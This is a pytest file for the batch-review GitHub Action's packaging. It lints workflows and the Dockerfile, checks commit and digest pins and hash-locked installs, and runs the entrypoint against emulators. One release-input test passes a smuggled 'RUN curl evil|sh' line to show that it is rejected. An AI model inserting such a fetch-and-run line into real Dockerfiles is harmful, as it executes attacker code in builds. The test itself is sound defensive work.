"""The shipped files pass the linters GitHub users rely on, the image is pinned and installs from the lock,
and the entrypoint runs the way the runner calls a Docker action.

There is no Docker engine here: the Dockerfile is linted with hadolint and its install script is run in a
fresh virtual environment, so a broken install step fails CI anyway; the entrypoint is the Dockerfile's
ENTRYPOINT plus action.yml's args, run from that environment. In CI (CI=true) a missing linter is a
failure, not a skip. The release workflow's own tests are in test_release_workflow.py.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tomllib
import venv
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = sorted(str(p) for p in (ROOT / "examples" / "workflows").rglob("*.yml"))
OWN_WORKFLOWS = sorted(str(p) for p in (ROOT / ".github" / "workflows").glob("*.yml"))
WORKFLOWS = EXAMPLES + OWN_WORKFLOWS
ACTIONS = [str(ROOT / "action.yml"), str(ROOT / "gate" / "action.yml")]
DEPENDABOT = str(ROOT / ".github" / "dependabot.yml")
LOCKS = [ROOT / "requirements.lock", ROOT / "docker" / "build-requirements.lock"]
# Node 24 releases, by full commit (FACTS.md; download-artifact v7.0.0 checked in its own repository: node24)
NODE24 = {"actions/checkout": "d23441a48e516b6c34aea4fa41551a30e30af803",  # v6.1.0
          "actions/upload-artifact": "b7c566a772e6b6bfb58ed0dc250532a479d7789f",  # v6.0.0
          "actions/download-artifact": "37930b1c2abaa49bbe596cd826c3c89aef350131"}  # v7.0.0
# The release fills these in (docker/release.py pin); every pin of batch-review in the examples is one.
PLACEHOLDER = re.compile(r"batch-review/batch-review(?:/[A-Za-z0-9._-]+)*@0{40} # v[0-9]+\.[0-9]+\.[0-9]+ "
                         r"\(pinned by the release\)")
VERSION = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["version"]


def tool(name: str) -> str:
    found = shutil.which(name) or shutil.which(name, path=str(Path(sys.executable).parent))
    if found is None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"{name} is not installed (pip install -e '.[test]')")
        pytest.skip(f"{name} is not installed")
    return found


def run(*cmd: str) -> subprocess.CompletedProcess:
    return subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=300)


def test_there_are_two_example_workflows_and_two_organization_callers():
    """One pair to copy, one pair that calls the reusable workflows; the same names, which the configuration's
    default artifacts.workflows trusts."""
    names = ["batch-review-poll.yml", "batch-review-submit.yml"]
    assert [Path(p).name for p in EXAMPLES if Path(p).parent.name == "workflows"] == names
    assert [Path(p).name for p in EXAMPLES if Path(p).parent.name == "reusable"] == names
    assert len(EXAMPLES) == 4


def test_every_workflow_action_and_dependabot_file_is_linted():
    """A workflow or action added anywhere in the repository is in the lists the linters below run on."""
    skip = {".git", ".venv", "node_modules", "tests", "build"}
    found = {str(p) for p in ROOT.rglob("*.y*ml") if not skip & set(p.relative_to(ROOT).parts)
             and (p.name in ("action.yml", "action.yaml") or ".github/workflows/" in str(p)
                  or "examples/workflows/" in str(p))}
    assert found == set(WORKFLOWS) | set(ACTIONS)
    assert {p.name for p in (ROOT / ".github").iterdir() if p.suffix in (".yml", ".yaml")} == {"dependabot.yml",
                                                                                            "actionlint.yaml"}


def test_actionlint_with_shellcheck_on_every_run_script():
    proc = run(tool("actionlint"), "-shellcheck", tool("shellcheck"), *WORKFLOWS)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_shellcheck_on_the_scripts_that_left_the_workflows():
    """The gate's script was a workflow `run:` that actionlint shellchecked; as a file it is checked here."""
    proc = run(tool("shellcheck"), "--shell=bash", "--severity=style", "gate/pending.sh")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    proc = run(tool("shellcheck"), "--severity=style", "docker/install.sh")
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_actionlint_ignores_only_the_self_repository_root_reference():
    """actionlint does not know `uses: $/` (the action at the repository root); its config ignores exactly
    that message in the reusable workflows, and nothing else anywhere."""
    config = yaml.safe_load((ROOT / ".github" / "actionlint.yaml").read_text())
    assert config == {"paths": {".github/workflows/reusable-*.yml": {
        "ignore": ['specifying action "\\$/" in invalid format because path is missing']}}}


def steps_of(path: str) -> list[dict]:
    return [step for job in yaml.safe_load(Path(path).read_text())["jobs"].values() for step in job.get("steps", [])]


def uses_lines(path: str) -> list[str]:
    return re.findall(r"^\s*(?:- )?uses: (.*)$", Path(path).read_text(), re.M)


def test_example_workflows_keep_what_was_written():
    """Upload steps run after a failed or timed-out step too; checkout and upload-artifact are the Node 24
    releases by full commit; checkout leaves no credentials behind (the action's one fetch brings its own)."""
    with_steps = [p for p in WORKFLOWS if Path(p).parent.name == "workflows" and "release" not in Path(p).name]
    assert len(with_steps) == 4  # the two examples and the two reusable workflows
    for path in with_steps:
        steps = steps_of(path)
        uploads = [s for s in steps if s.get("uses", "").startswith("actions/upload-artifact@")]
        checkouts = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
        memory = "poll" in Path(path).name  # poll also keeps the memory of dismissed findings (issue 20)
        assert len(uploads) == 1 + memory and len(checkouts) == 1, path
        assert all(u["if"] == "${{ always() }}" for u in uploads), path
        assert checkouts[0]["with"]["persist-credentials"] is False, path


def test_every_action_is_pinned_by_full_commit_or_is_this_repository():
    """Third-party actions by 40-hex commit (the actions/* ones are the Node 24 releases); this repository's
    own action and gate by `$/` in the reusable workflows, and by the release's placeholder in the examples."""
    for path in WORKFLOWS + ACTIONS:
        for line in uses_lines(path):
            ref = line.split(" #")[0].strip()
            if ref.startswith("$/"):
                assert "/.github/workflows/" in path and ref in ("$/", "$/gate"), (path, line)
            elif ref.startswith("batch-review/batch-review"):
                assert "/examples/" in path and PLACEHOLDER.fullmatch(line.strip()), (path, line)
                assert f"# v{VERSION} (pinned" in line, (path, line)
            else:
                assert re.fullmatch(r"[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}", ref), (path, line)
                name, _, commit = ref.partition("@")
                if name in NODE24:
                    assert commit == NODE24[name], (path, line)


def test_zizmor_finds_nothing_even_pedantic():
    proc = run(tool("zizmor"), "--offline", "--persona", "pedantic", "--no-progress", *WORKFLOWS, *ACTIONS,
               DEPENDABOT)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "No findings to report" in proc.stdout + proc.stderr


def test_workflows_actions_and_dependabot_match_the_vendored_schemas():
    exe = tool("check-jsonschema")
    for schema, files in (("vendor.github-workflows", WORKFLOWS), ("vendor.github-actions", ACTIONS),
                          ("vendor.dependabot", [DEPENDABOT])):
        proc = run(exe, "--builtin-schema", schema, *files)
        assert proc.returncode == 0, proc.stdout + proc.stderr


def test_hadolint_reports_nothing_on_the_source_dockerfile():
    proc = run(tool("hadolint"), "--failure-threshold", "info", "Dockerfile")
    assert proc.returncode == 0 and proc.stdout.strip() == "", proc.stdout + proc.stderr


def test_the_base_image_is_pinned_by_digest_and_updated_on_purpose():
    """FROM names the tag and the digest of the image index; the comment above it says the tag; Dependabot's
    docker ecosystem proposes new digests and patch releases, and leaves a new Python minor to a person."""
    lines = (ROOT / "Dockerfile").read_text().splitlines()
    froms = [i for i, line in enumerate(lines) if line.upper().startswith("FROM ")]
    assert froms
    for i in froms:
        match = re.fullmatch(r"FROM (?P<image>[a-z0-9./-]+:[\w.-]+)@sha256:[0-9a-f]{64}", lines[i])
        assert match, lines[i]
        comments = []
        for line in reversed(lines[:i]):
            if not line.startswith("#"):
                break
            comments.append(line)
        assert any(f"# {match['image']}:" in c for c in comments), comments
    dependabot = yaml.safe_load(Path(DEPENDABOT).read_text())
    updates = {u["package-ecosystem"]: u for u in dependabot["updates"]}
    assert set(updates) == {"docker", "github-actions"} and updates["docker"]["directory"] == "/"
    assert updates["github-actions"]["directory"] == "/"
    assert updates["docker"]["ignore"] == [{"dependency-name": "python", "update-types": [
        "version-update:semver-major", "version-update:semver-minor"]}]


@pytest.mark.parametrize("lock", LOCKS, ids=lambda p: p.name)
def test_the_lock_installs_from_pypi_alone(lock):
    """No index, find-links or trusted-host line (a machine-local index would fail everywhere else, and an
    extra index lets another server offer the same names); every pin carries hashes."""
    text = lock.read_text()
    options = [line for line in text.splitlines() if line.strip().startswith("-")
               and not re.fullmatch(r"--hash=sha256:[0-9a-f]{64}( \\)?", line.strip())]
    assert options == []
    assert not re.search(r"://|/opt/|file:/", text)
    pins = re.findall(r"^([A-Za-z0-9][A-Za-z0-9._-]*)==\S+ \\\n((?:    --hash=sha256:[0-9a-f]{64}.*\n)+)", text, re.M)
    assert len(pins) == len(re.findall(r"^[A-Za-z0-9]", text, re.M)) > 0


def test_the_release_builds_with_the_setuptools_the_image_installs_with():
    def setuptools(path: Path) -> str:
        return re.search(r"^setuptools==(\S+) ", path.read_text(), re.M)[1]
    assert setuptools(LOCKS[0]) == setuptools(LOCKS[1])


@pytest.fixture(scope="module")
def installed(tmp_path_factory) -> dict:
    """docker/install.sh run in a fresh virtual environment on a copy of the source, as the Dockerfile runs it."""
    tmp_path = tmp_path_factory.mktemp("image")
    env_dir = tmp_path / "venv"
    venv.EnvBuilder(with_pip=True).create(env_dir)
    env = {**os.environ, "PATH": f"{env_dir / 'bin'}:{os.environ['PATH']}", "VIRTUAL_ENV": str(env_dir)}
    env.pop("PYTHONPATH", None)
    source = tmp_path / "src"
    shutil.copytree(ROOT, source, ignore=shutil.ignore_patterns(".git", ".venv*", "__pycache__", "*.egg-info",
                                                                    ".batch-review", "build", "bench"))
    proc = subprocess.run(["sh", "docker/install.sh", str(source)], cwd=source, env=env, capture_output=True,
                          text=True, timeout=600)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    return {"bin": env_dir / "bin", "env": env, "stdout": proc.stdout}


def test_the_images_install_step_works_in_a_fresh_environment(installed):
    assert installed["stdout"].strip().splitlines()[-1].startswith("batch-review ")


def release_py(*args: str, stdin: str = "") -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(ROOT / "docker" / "release.py"), *args], input=stdin,
                          capture_output=True, text=True, timeout=60)


def project_pin() -> str:
    return f"batch-review=={tomllib.loads((ROOT / 'pyproject.toml').read_text())['project']['version']}"


def test_the_installed_environment_holds_exactly_the_locked_packages(installed, tmp_path):
    """The release workflow runs this check on the image it built and again on the image it pulled back by
    digest; here it runs on the same install step in a fresh environment, and it notices a difference."""
    freeze = subprocess.run([str(installed["bin"] / "python"), "-m", "pip", "list", "--format=freeze",
                             "--disable-pip-version-check"], capture_output=True, text=True, check=True).stdout
    lock = ROOT / "requirements.lock"
    proc = release_py("check-packages", str(lock), project_pin(), stdin=freeze)
    count = len(re.findall(r"^[A-Za-z0-9][A-Za-z0-9._-]*==", lock.read_text(), re.M))
    assert proc.returncode == 0 and f"exactly the {count} locked packages" in proc.stdout, proc.stdout + proc.stderr
    bumped = tmp_path / "requirements.lock"
    bumped.write_text(lock.read_text().replace("\nunidiff==1.0.1 ", "\nunidiff==1.0.2 "))
    proc = release_py("check-packages", str(bumped), project_pin(), stdin=freeze)
    assert proc.returncode == 1 and proc.stdout == "::error::unidiff: requirements.lock has 1.0.2, the image 1.0.1\n"
    proc = release_py("check-packages", str(lock), project_pin(), stdin=freeze + "leftpad==1.0\n")
    assert proc.returncode == 1 and "leftpad==1.0 is in the image but not in requirements.lock" in proc.stdout
    proc = release_py("check-packages", str(lock), "batch-review==9.9.9", stdin=freeze)
    assert proc.returncode == 1 and "the release is 9.9.9" in proc.stdout


def docker_run_argv(*args: str) -> list[str]:
    """What `docker run IMAGE ARGS...` runs: the ENTRYPOINT, then ARGS, or the CMD when there are none."""
    text = (ROOT / "Dockerfile").read_text()
    entrypoint = json.loads(re.search(r"^ENTRYPOINT (\[.*\])$", text, re.M)[1])
    cmd = json.loads(re.search(r"^CMD (\[.*\])$", text, re.M)[1])
    return [*entrypoint, *(args or cmd)]


def test_a_workflow_step_runs_batch_review_action_once():
    """The runner runs a Docker action as `docker run IMAGE <runs.args>`: ENTRYPOINT + args is the command."""
    action = yaml.safe_load((ROOT / "action.yml").read_text())
    assert docker_run_argv(*action["runs"]["args"]) == ["batch-review", "action"]


def test_the_image_is_the_command_line(installed):
    """`docker run IMAGE --version` (the release workflow's last check) and a bare `docker run IMAGE` (help)."""
    version = run_installed(installed, docker_run_argv("--version"))
    assert version.returncode == 0 and version.stdout.strip() == f"batch-review {VERSION}", version
    bare = run_installed(installed, docker_run_argv())
    assert bare.returncode == 0 and "usage: batch-review" in bare.stdout and "submit" in bare.stdout, bare


def run_installed(installed: dict, argv: list[str]) -> subprocess.CompletedProcess:
    return subprocess.run([str(installed["bin"] / argv[0]), *argv[1:]], capture_output=True, text=True,
                          timeout=60, env={"PATH": f"{installed['bin']}:/usr/bin:/bin", "HOME": "/nonexistent"})


def test_the_entrypoint_runs_as_the_runner_calls_a_docker_action(installed, world, tmp_path):
    """The Dockerfile's ENTRYPOINT plus action.yml's args, from the installed console script, in the
    workspace, with only what the runner passes into the container: INPUT_<NAME> for every declared input
    (dashes kept), GITHUB_* and the file-command files. Submit, then poll, against the emulators."""
    from ..conftest import GITHUB_TOKEN, OPENAI_KEY, finding
    from ..emulators.github_emu import make_zip

    action = yaml.safe_load((ROOT / "action.yml").read_text())
    command = docker_run_argv(*action["runs"]["args"])
    argv = [str(installed["bin"] / command[0]), *command[1:]]
    world.answer_with({"app.py": [finding("app.py", 2, title="Division by zero")]})
    world.configure("verify:\n  enabled: false\n")  # one poll posts (the verify round: tests/poll/test_verify.py)

    def run_action(command: str) -> dict:
        inputs = {f"INPUT_{name.upper()}": str(spec.get("default", "")) for name, spec in action["inputs"].items()}
        inputs.update({"INPUT_COMMAND": command, "INPUT_OPENAI-API-KEY": OPENAI_KEY,
                       "INPUT_OPENAI-BASE-URL": world.openai.base_url, "INPUT_GITHUB-TOKEN": GITHUB_TOKEN})
        out = tmp_path / f"output-{command}"
        env = {"PATH": f"{installed['bin']}:/usr/local/bin:/usr/bin:/bin", "HOME": str(tmp_path / "home"),
               **inputs, "GITHUB_ACTIONS": "true", "CI": "true", "GITHUB_EVENT_NAME": "schedule",
               "GITHUB_WORKSPACE": str(world.repo.path), "GITHUB_REPOSITORY": "acme/widgets",
               "GITHUB_API_URL": world.github.api_url, "GITHUB_SERVER_URL": "https://github.com",
               "GITHUB_RUN_ID": "99", "GITHUB_OUTPUT": str(out), "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
               "BATCH_REVIEW_WRITE_INTERVAL": "0", "PYTHONUNBUFFERED": "1"}
        proc = subprocess.run(argv, cwd=world.repo.path, env=env, capture_output=True, text=True, timeout=300)
        assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
        return dict(line.split("=", 1) for line in out.read_text().splitlines())

    (tmp_path / "home").mkdir()
    assert run_action("submit")["requests-submitted"] == "1"  # pull request 1: its two files in one request
    state = world.repo.path / ".batch-review"
    files = {str(p.relative_to(state)): p.read_bytes() for p in state.rglob("*") if p.is_file()}
    world.github.add_artifact("batch-review-99-1", make_zip(files))
    world.openai.complete_all()
    outputs = run_action("poll")
    assert outputs["reviews-posted"] == "1" and outputs["pending-batches"] == "0"
    assert len(world.github.reviews(1)) == 1 and world.github.artifacts == {}


def test_hadolint_reports_nothing_on_the_release_dockerfile(tmp_path):
    ref = "ghcr.io/batch-review/batch-review@sha256:" + "0123456789abcdef" * 4
    proc = release_py("dockerfile", ref, "v1.2.3")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    instructions = [line for line in proc.stdout.splitlines() if line and not line.startswith("#")]
    assert instructions == [f"FROM {ref}"]
    (tmp_path / "release.Dockerfile").write_text(proc.stdout)
    lint = run(tool("hadolint"), "--failure-threshold", "info", str(tmp_path / "release.Dockerfile"))
    assert lint.returncode == 0 and lint.stdout.strip() == "", lint.stdout + lint.stderr


@pytest.mark.parametrize(("args", "message"), [
    (("dockerfile", "ghcr.io/a/b:latest", "v1.2.3"), "is not ghcr.io/OWNER/NAME@sha256:<64 hex digits>"),
    (("dockerfile", "ghcr.io/a/b@sha256:" + "0" * 63, "v1.2.3"), "is not ghcr.io/OWNER/NAME@sha256"),
    (("dockerfile", "ghcr.io/a/b@sha256:" + "0" * 64 + "\nRUN curl evil|sh", "v1.2.3"), "is not ghcr.io/"),
    (("dockerfile", "ghcr.io/a/b@sha256:" + "0" * 64, "1.2.3"), "version '1.2.3' is not vMAJOR.MINOR.PATCH"),
    (("point-action", "action.yml", "../Dockerfile"), "is not a file under docker/"),
])
def test_release_inputs_that_cannot_be_used_are_one_line(args, message):
    proc = release_py(*args)
    assert proc.returncode == 2 and len(proc.stdout.splitlines()) == 1 and message in proc.stdout, proc.stdout


def test_the_release_commit_changes_only_the_image_the_action_runs(tmp_path):
    copy = tmp_path / "action.yml"
    copy.write_text((ROOT / "action.yml").read_text())
    assert release_py("point-action", str(copy), "docker/release.Dockerfile").returncode == 0
    before, after = yaml.safe_load((ROOT / "action.yml").read_text()), yaml.safe_load(copy.read_text())
    assert after["runs"] == {**before["runs"], "image": "docker/release.Dockerfile"}
    assert {k: v for k, v in after.items() if k != "runs"} == {k: v for k, v in before.items() if k != "runs"}


README = (ROOT / "README.md").read_text()


def test_the_readme_shows_the_two_callers_verbatim_and_links_the_full_files():
    """Setup is two short files: the callers of the reusable workflows, exactly as shipped; the full files
    and what the workflows do (the gate among them) are one link away."""
    shown = [path for path in EXAMPLES if "```yaml\n" + Path(path).read_text() + "```" in README]
    assert sorted(Path(p).parent.name for p in shown) == ["reusable", "reusable"]
    assert "(examples/workflows/reusable/)" in README and "(examples/workflows/)" in README
    assert "(docs/workflows.md)" in README and "(../gate/)" in (ROOT / "docs" / "workflows.md").read_text()


def test_the_readme_is_a_page_a_user_reads_in_five_minutes():
    assert len(README.splitlines()) <= 300


def test_the_quick_start_works_outside_the_checkout_and_keeps_the_developers_commands():
    """A user's repository: the PyPI release through pipx or uvx, or a release tag of this repository by git
    URL (the version pyproject.toml says); a checkout of batch-review: the two developers' commands verbatim."""
    start = README.index("## Quick start")
    quick = README[start:README.index("\n## ", start)]
    assert "pipx run batch-review submit --dry-run" in quick and "uvx batch-review submit --dry-run" in quick
    assert f"'git+https://github.com/batch-review/batch-review@v{VERSION}' batch-review submit --dry-run" in quick
    assert ("python3 -m venv .venv && .venv/bin/pip install -q . && .venv/bin/batch-review submit --dry-run"
            in quick)
    assert "python3 -m venv .venv && .venv/bin/pip install -q -e '.[test]' && .venv/bin/python -m pytest" in quick
    assert "python3 -m venv .venv && .venv/bin/pip install -q -e '.[test]' && .venv/bin/python -m pytest" in (
        ROOT / ".ci" / "run").read_text()


def test_the_package_metadata_is_ready_for_pypi():
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())
    meta = project["project"]
    assert meta["name"] == "batch-review" and re.fullmatch(r"[0-9]+\.[0-9]+\.[0-9]+", meta["version"])
    assert meta["license"] == "MIT"  # an SPDX expression (PEP 639): setuptools 77 or later
    assert project["build-system"]["requires"] == ["setuptools>=77"]
    assert {"Homepage", "Source", "Issues"} <= set(meta["urls"]) and meta["scripts"]["batch-review"]
    assert "Anthropic" in meta["description"] and meta["readme"] == "README.md"
